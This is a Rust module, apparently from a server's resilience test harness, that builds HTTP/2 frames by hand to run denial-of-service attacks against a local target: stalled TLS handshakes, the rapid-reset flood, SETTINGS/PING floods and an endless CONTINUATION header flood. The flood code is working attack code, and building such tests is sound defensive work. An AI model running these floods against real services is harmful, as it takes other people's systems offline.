//! Attacks on TLS, and on HTTP/2 within it, whose frames are written here by hand.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};

use super::arena::Arena;
use super::wire::drip;

/// Between two pieces on one connection.
const PAUSE: Duration = Duration::from_millis(20);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Kinds of frames (RFC 9113 section 6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

/// The beginning of a handshake, and no more of it.
pub async fn handshakes(arena: Arena) {
    arena
        .crowd(500, 1_000, |arena, _| async move {
            let mut socket = arena.connect_bare().await?;
            socket.write_all(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03the rest never comes").await?;
            let mut answer = [0; 64];
            match socket.read(&mut answer).await? {
                0 => Ok("closed".into()),
                _ => Ok("an alert".into()),
            }
        })
        .await;
}

/// Requests that are reset at once: 20 at a time, 50 times a second on each connection.
pub async fn rapid_reset(arena: Arena) {
    arena
        .crowd(20, 10, |arena, _| {
            let mut stream = 1;
            flood(arena, move || {
                let mut piece = Vec::new();
                for _ in 0..20 {
                    piece.extend(frame(HEADERS, 0x5, stream, &request()));
                    piece.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                    stream += 2;
                }
                piece
            })
        })
        .await;
}

/// SETTINGS and PING that each must be acknowledged: 100 at a time, 50 times a second on each connection.
pub async fn control(arena: Arena) {
    arena
        .crowd(20, 10, |arena, n| {
            let one = if n % 2 == 0 { frame(SETTINGS, 0, 0, &[]) } else { frame(PING, 0, 0, &[0; 8]) };
            flood(arena, move || one.repeat(100))
        })
        .await;
}

/// A head that goes on and on.
pub async fn continuation(arena: Arena) {
    arena
        .crowd(20, 10, |arena, _| {
            let mut first = Some(frame(HEADERS, 0x1, 1, &request()));
            // Literal headers without indexing, named x, of 100 bytes each.
            let header = [&b"\x00\x01x\x64"[..], &[b'y'; 100]].concat();
            let more = frame(CONTINUATION, 0, 1, &header.repeat(100));
            flood(arena, move || first.take().unwrap_or_else(|| more.clone()))
        })
        .await;
}

async fn flood(arena: Arena, mut piece: impl FnMut() -> Vec<u8>) -> io::Result<String> {
    let mut wire = arena.connect().await?;
    wire.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
    let (mut read, write) = tokio::io::split(wire);
    drip(write, PAUSE, move || Some(piece()), goaway(&mut read)).await
}

/// `GET`, `https`, a long-poll of a channel, `localhost` (RFC 7541, literals without indexing).
fn request() -> Vec<u8> {
    let path = b"/v1/channels/open:a?wait=5";
    [&[0x82, 0x87, 0x04, path.len() as u8][..], path, b"\x01\x09localhost"].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// Reads until the connection is ended, and says with which error (RFC 9113 section 7).
async fn goaway(wire: &mut (impl AsyncRead + Unpin)) -> io::Result<String> {
    let mut wire = tokio::io::BufReader::new(wire);
    loop {
        let head = wire.read_u32().await?;
        let (length, kind) = (head >> 8, head as u8);
        let mut rest = vec![0; 5 + length as usize];
        wire.read_exact(&mut rest).await?;
        if kind == GOAWAY && rest.len() >= 13 {
            return Ok(match rest[12] {
                1 => "GOAWAY PROTOCOL_ERROR".into(),
                11 => "GOAWAY ENHANCE_YOUR_CALM".into(),
                other => format!("GOAWAY {other}"),
            });
        }
    }
}
